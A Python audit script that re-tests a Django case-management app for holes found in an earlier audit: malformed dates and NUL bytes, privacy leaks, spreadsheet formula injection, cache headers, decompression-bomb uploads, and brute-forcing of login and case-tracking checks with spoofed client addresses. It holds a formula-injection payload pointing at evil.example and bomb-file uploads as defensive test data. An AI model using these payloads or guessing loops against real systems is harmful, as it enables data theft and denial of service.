"""Issue 11's outside audit, run again: the holes it found, tried from outside on a production-
configured server (gunicorn, DEBUG=0, PostgreSQL, the database cache shared by the workers).

    python -m bench.audit [--commit HEAD] [--keep]

Builds its own database (sanhe_audit_*: migrate, load_demo), starts gunicorn as nginx would sit
in front of it (the client's address in X-Real-IP, so that the audit can play many addresses), and
checks, printing one line each and exiting 1 if any hole is still there:

  bad input     years 0001 and 9999 on every report, pack, export and summary.json; NUL bytes in
                the board, print and case URLs: never a 500
  privacy       a private public summary or public progress line typed on the case page is
                refused, and the board never shows it
  formulas      a cadre-typed =HYPERLINK(…) comes out of the admin's csv and xlsx exports inert
  cache         pages and files with residents' data say Cache-Control: private, no-store
  uploads       a dimension bomb and a styles bomb, to the office's ledger upload and the admin's
                import: refused with a message, no worker grows past MEMORY_CAP_MB
  track         1,235 guesses from 247 addresses do not find a case's last four digits, and a
                resident at an address someone else guessed from still gets in
  logins        30 wrong passwords then the right one does not log in (staff and admin logins)
"""

import argparse
import io
import re
import secrets
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import psycopg2

from bench.browser import Browser, Response, find_form, find_form_or_follow
from bench.load import build, free_port, manage, server_env, source_tree, start_gunicorn, stop_gunicorn
from bench.pg import PG, admin_sql
from cases.tests import hostile_files
from cases.tests.hostile_files import GIGABYTE

PASSWORD = "sanhe-2015"
MEMORY_CAP_MB = 600
PRIVATE_TEXT = "测试人家低保 13700009999"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


class Audit:
    def __init__(self, base: str, database: str, server: subprocess.Popen):
        self.base, self.database, self.server = base, database, server
        self.results: list[tuple[bool, str, str]] = []
        self.conn = psycopg2.connect(dbname=database, **PG)
        self.conn.autocommit = True

    def sql(self, query: str, params=()) -> list:
        with self.conn.cursor() as cur:
            cur.execute(query, params)
            return cur.fetchall() if cur.description else []

    def check(self, name: str, ok: bool, detail: str) -> None:
        self.results.append((ok, name, detail))
        print(f"{'PASS' if ok else 'HOLE'} {name}: {detail}", flush=True)

    def browser(self, user: str = "", address: str = "") -> Browser:
        browser = Browser(self.base)
        browser.extra_headers["X-Real-IP"] = address or f"10.9.{secrets.randbelow(250)}.{secrets.randbelow(250)}"
        if user:
            browser.login(user, PASSWORD)
        return browser


# -- bad input ----------------------------------------------------------------------------------


def bad_input(audit: Audit) -> None:
    case = audit.sql("SELECT number FROM cases_case ORDER BY id LIMIT 1")[0][0]
    village = audit.sql("SELECT code FROM villages_village ORDER BY id LIMIT 1")[0][0]
    tables = sorted(set(re.findall(r"/reports/export/([\w-]+)\.xlsx", audit.browser("office").get("/reports/").body)))
    dated = ["/reports/summary.json", "/reports/", "/reports/pack/", "/reports/pack.docx", "/reports/teams/"]
    dated += [f"/reports/export/{table}.xlsx" for table in tables] + [
        "/reports/cases/",
        "/cases/",
        "/cases/export.xlsx",
    ]
    queries = [
        "month=9999-12",
        "month=0001-01",
        "start=0001-01-01&end=0001-01-31",
        "start=9999-12-01&end=9999-12-31",
        "start=0001-01-01&end=9999-12-31",
        "month=2015-13",
        "month=2015-06&as_of=9999-12-31",
        "raised_after=0001-01-01&raised_before=9999-12-31",
        "page=99999999999999999999",
        "month=%00",
    ]
    urls = [f"{path}?{query}" for path in dated for query in queries]
    urls += [f"/notice/{village}%00/", f"/notice/{village}%00/print/", f"/cases/{case}%00/", "/notice/%00/"]
    urls += [f"/notice/{village}/?page=%00", f"/track/?number={case}%00&last4=0000", "/reports/notices/%00/"]
    crashes = []
    for user in ("", "office", "supervisor", "cadre", "admin"):
        browser = audit.browser(user)
        crashes += [f"{user or 'public'} {url} → {r.status}" for url in urls if (r := browser.get(url)).status >= 500]
    audit.check("bad input", not crashes, f"{len(urls) * 5} requests, {len(crashes)} answered 5xx {crashes[:3]}")


# -- privacy by edit ----------------------------------------------------------------------------


def privacy_by_edit(audit: Audit) -> None:
    number, code = audit.sql(
        "SELECT c.number, v.code FROM cases_case c JOIN villages_village v ON v.id = c.village_id "
        "WHERE c.status <> 'closed' AND c.public_posting ORDER BY c.id LIMIT 1"
    )[0]
    office = audit.browser("office")
    refused = []
    for action, field in (("edit", "title"), ("progress", "text")):
        page = office.get(f"/cases/{number}/")
        form = find_form_or_follow(page, f"/{action}/", office.get)
        changes = {field: PRIVATE_TEXT}
        if "public" in form.names:
            changes["public"] = "on"
        answer = office.submit(form, changes)
        refused.append(answer.status != 302)
    stored = (
        audit.sql("SELECT count(*) FROM cases_case WHERE title LIKE %s", ["%13700009999%"])[0][0]
        + audit.sql("SELECT count(*) FROM cases_caseevent WHERE text LIKE %s", ["%13700009999%"])[0][0]
    )
    board = audit.browser().get(f"/notice/{code}/").body + audit.browser().get(f"/notice/{code}/print/").body
    ok = all(refused) and not stored and "13700009999" not in board
    audit.check(
        "privacy by edit", ok, f"edit refused {refused[0]}, public progress refused {refused[1]}, saved {stored}"
    )


# -- formulas in the admin's exports ------------------------------------------------------------


def formulas(audit: Audit) -> None:
    audit.sql("UPDATE cases_case SET title = %s WHERE id = (SELECT min(id) FROM cases_case)", [FORMULA])
    admin = audit.browser("admin")
    page = admin.get("/admin/cases/case/export/")
    form = find_form(page, "/admin/cases/case/export/")
    formats = dict(
        (name.lower(), value) for value, name in re.findall(r'<option value="(\d+)"[^>]*>\s*(\w+)', page.body)
    )
    live = []
    for name in ("csv", "xlsx"):
        answer = admin.submit(form, {"format": formats[name]})
        body = answer.body if name == "csv" else _xlsx_text(answer)
        if answer.status != 200 or re.search(r'(^|[,\n"])=HYPERLINK', body):
            live.append(f"{name} ({answer.status})")
    audit.check("formulas", not live, f"admin csv/xlsx exports; live formulas in {live or 'none'}")


def _xlsx_text(answer: Response) -> str:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(answer.raw), read_only=True)
    return "\n".join(str(cell) for sheet in book for row in sheet.iter_rows(values_only=True) for cell in row)


# -- Cache-Control ------------------------------------------------------------------------------


def cache_control(audit: Audit) -> None:
    number, phone = audit.sql("SELECT number, resident_phone FROM cases_case WHERE resident_phone <> '' LIMIT 1")[0]
    office = audit.browser("office")
    pages = ["/cases/", f"/cases/{number}/", "/cases/export.xlsx", "/triage/", "/reports/", "/admin/cases/case/"]
    missing = [p for p in pages if "no-store" not in office.get(p).headers.get("Cache-Control", "")]
    if "no-store" not in ask_track(audit.browser(), number, last4(phone)).headers.get("Cache-Control", ""):
        missing.append("/track/ answer")
    board = audit.browser().get("/notice/").headers.get("Cache-Control", "")
    audit.check(
        "cache", not missing and "no-store" not in board, f"missing on {missing or 'none'}; board says {board!r}"
    )


# -- hostile uploads ----------------------------------------------------------------------------


def multipart(fields: list[tuple[str, str]], file_field: str, filename: str, content: bytes) -> tuple[bytes, str]:
    boundary = uuid.uuid4().hex
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields
        if name != file_field
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{filename}"\r\n'
        "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


class PeakMemory(threading.Thread):
    """The largest resident set of any of the server's processes while it runs, in MB."""

    def __init__(self, pid: int):
        super().__init__(daemon=True)
        self.pid, self.peak, self.stop = pid, 0, threading.Event()

    def run(self):
        while not self.stop.is_set():
            pids = [self.pid, *_children(self.pid)]
            self.peak = max([self.peak] + [_rss_mb(pid) for pid in pids])
            time.sleep(0.05)


def _children(pid: int) -> list[int]:
    try:
        return [int(p) for p in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


def _rss_mb(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) // 1024
    except OSError:
        pass
    return 0


def uploads(audit: Audit) -> None:
    # The files the audit sent: one cell at XFD1048576, and a styles.xml that unpacks to 4 GiB.
    bombs = {"dimension bomb": hostile_files.dimension_bomb(), "styles bomb": hostile_files.styles_bomb(4 * GIGABYTE)}
    office, admin = audit.browser("office"), audit.browser("admin")
    outcomes, peak = [], PeakMemory(audit.server.pid)
    peak.start()
    for name, content in bombs.items():
        for browser, path, field in (
            (office, "/cases/import/", "file"),
            (admin, "/admin/cases/case/import/", "import_file"),
        ):
            page = browser.get(path)
            form = find_form(page, path)
            fields = form.values()
            if "format" in form.options:
                xlsx = re.search(r'<option value="(\d+)"[^>]*>\s*xlsx', page.body)
                fields = [(k, v) for k, v in fields if k != "format"] + [("format", xlsx.group(1) if xlsx else "")]
            body, kind = multipart(fields, field, "台账.xlsx", content)
            started = time.monotonic()
            answer = browser.request("POST", form.action, body, content_type=kind)
            outcomes.append((name, path, answer.status, round(time.monotonic() - started, 1)))
    peak.stop.set()
    peak.join()
    crashed = [o for o in outcomes if o[2] >= 500]
    sizes = ", ".join(f"{n} {len(c) // 1024} KB" for n, c in bombs.items())
    ok = not crashed and peak.peak < MEMORY_CAP_MB
    audit.check(
        "uploads", ok, f"{sizes}; answers {[(o[0], o[1], o[2], o[3]) for o in outcomes]}; peak RSS {peak.peak} MB"
    )


# -- /track/ ------------------------------------------------------------------------------------


def last4(phone: str) -> str:
    return re.sub(r"\D", "", phone)[-4:]


def ask_track(browser: Browser, number: str, answer: str) -> Response:
    """The resident's form, as a browser submits it: the number and the digits (or code) field."""
    page = browser.get("/track/")
    form = find_form(page, "/track/")
    digits = next(name for name in form.names if name not in ("number", "csrfmiddlewaretoken"))
    return browser.submit(form, {"number": number, digits: answer})


def track(audit: Audit) -> None:
    number, phone = audit.sql(
        "SELECT number, resident_phone FROM cases_case WHERE length(resident_phone) >= 8 ORDER BY id DESC LIMIT 1"
    )[0]
    right = last4(phone)
    # The worst case for us: the right digits are the attacker's 1,200th guess, five from each address.
    guesses = [*[f"{n:04d}" for n in range(10000) if f"{n:04d}" != right][:1199], right]
    guesses += [f"{n:04d}" for n in range(9000, 9035)]
    found, browser = None, None
    for i, guess in enumerate(guesses):
        if i % 5 == 0:
            browser = audit.browser(address=f"10.77.{i // 5 // 250}.{i // 5 % 250 + 1}")
        if 'class="tracked"' in ask_track(browser, number, guess).body:
            found = i + 1
            break
    numbers = [
        row[0]
        for row in audit.sql(
            "SELECT number FROM cases_case WHERE length(resident_phone) >= 8 AND number <> %s ORDER BY id LIMIT 8",
            [number],
        )
    ]
    other = numbers.pop()
    other_phone = audit.sql("SELECT resident_phone FROM cases_case WHERE number = %s", [other])[0][0]
    # A village's shared address: someone missed seven other numbers from it, past its limit of five.
    shared = audit.browser(address="10.66.0.1")
    for guessed in numbers:
        ask_track(shared, guessed, "0000")
    resident = ask_track(audit.browser(address="10.66.0.1"), other, last4(other_phone))
    let_in = 'class="tracked"' in resident.body
    audit.check(
        "track",
        found is None and let_in,
        f"{len(guesses)} guesses from {(len(guesses) + 4) // 5} addresses: "
        f"{'found at guess ' + str(found) if found else 'not found'}; "
        f"the resident at an address someone guessed from {'got in' if let_in else 'was refused'}",
    )


# -- logins -------------------------------------------------------------------------------------


def logins(audit: Audit) -> None:
    got_in = []
    for username, path in (("office", "/accounts/login/"), ("admin", "/admin/login/")):
        browser = audit.browser(address="10.55.0.1")
        for _ in range(30):
            page = browser.get(path)
            browser.submit(find_form(page, path), {"username": username, "password": "wrong-" + secrets.token_hex(4)})
        page = browser.get(path)
        answer = browser.submit(find_form(page, path), {"username": username, "password": PASSWORD})
        if answer.status == 302 and "login" not in answer.location:
            got_in.append(username)
    audit.check("logins", not got_in, f"30 wrong then right: {'logged in as ' + str(got_in) if got_in else 'refused'}")


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.audit", description=__doc__.split("\n\n")[0])
    parser.add_argument("--commit", default="HEAD", help="audit this commit (git archive; default HEAD)")
    parser.add_argument("--database", default="sanhe_audit_run")
    parser.add_argument("--keep", action="store_true", help="keep the database afterwards")
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="sanhe_audit_"))
    tree, code = source_tree(args.commit, work)
    env = server_env(args.database, str(work / "static"), free_port(), 3) | {"CLIENT_IP_HEADER": "HTTP_X_REAL_IP"}
    print(f"auditing {code} in {args.database}", flush=True)
    build(tree, args.database, 0, env)
    manage(tree, env, "collectstatic", "--noinput", "-v", "0")
    server = start_gunicorn(tree, env, work / "gunicorn.log")
    audit = Audit(f"http://{env['GUNICORN_BIND']}", args.database, server)
    try:
        for step in (bad_input, privacy_by_edit, formulas, cache_control, uploads, track, logins):
            try:
                step(audit)
            except Exception as error:  # a step that cannot run is a finding too
                audit.check(step.__name__, False, f"could not run: {error!r}")
    finally:
        stop_gunicorn(server)
        audit.conn.close()
        if not args.keep:
            admin_sql(f"DROP DATABASE IF EXISTS {args.database} WITH (FORCE)")
    errors = [line for line in (work / "gunicorn.log").read_text().splitlines() if '"level": "ERROR"' in line]
    print(f"server log: {len(errors)} errors" + (f", first: {errors[0][:300]}" if errors else ""))
    holes = [name for ok, name, _detail in audit.results if not ok]
    print(
        f"{len(audit.results) - len(holes)} of {len(audit.results)} checks pass"
        + (f"; holes: {holes}" if holes else "")
    )
    return 1 if holes or errors else 0


if __name__ == "__main__":
    sys.exit(main())
